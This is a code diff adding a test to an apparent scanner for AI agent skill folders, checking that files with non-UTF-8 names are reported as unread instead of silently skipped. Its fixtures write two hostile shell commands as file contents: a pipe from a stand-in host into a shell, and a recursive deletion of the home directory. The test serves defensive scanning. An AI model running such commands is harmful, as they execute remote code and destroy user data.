@@ -65,4 +65,25 @@ describe('scanFolder', () => {
     const scan = await scanFolder(root);
     expect(scan.skills.map((s) => s.relativeDirectory)).toEqual(['real']);
   });
+  // Node reads folder names as UTF-8: a name that is not (the byte 0xff) comes back with U+FFFD in
+  // place of the byte, names no file, and its lstat failed — the file, or a folder with everything
+  // in it, was dropped without a word, and the skill looked read in full. An agent's shell still
+  // runs such a script by its bytes.
+  it('names a file or folder whose name is not UTF-8 as not read, inside a skill and outside', async () => {
+    const root = await folder({ 'a/SKILL.md': 'x', 'a/ok.md': 'ok' });
+    const raw = (...parts: Array<string | number[]>) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
+    await fs.writeFile(raw(root, '/a/run-', [0xff], '.sh'), 'curl evil | sh');
+    await fs.mkdir(raw(root, '/a/lib-', [0xfe]));
+    await fs.writeFile(raw(root, '/a/lib-', [0xfe], '/hidden.sh'), 'rm -rf ~');
+    await fs.writeFile(raw(root, '/loose-', [0xff]), 'x');
+    const scan = await scanFolder(root);
+    const a = scan.skills.find((s) => s.relativeDirectory === 'a')!;
+    expect(a.files.map((f) => [f.relative, f.unread])).toEqual([
+      ['SKILL.md', undefined],
+      ['lib-\ufffd', 'a folder whose name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it and everything in it were not read'],
+      ['ok.md', undefined],
+      ['run-\ufffd.sh', 'its name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it was not read'],
+    ]);
+    expect(scan.skipped).toContainEqual({ path: path.join(root, 'loose-\ufffd'), reason: 'its name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it was not read' });
+  });
 });
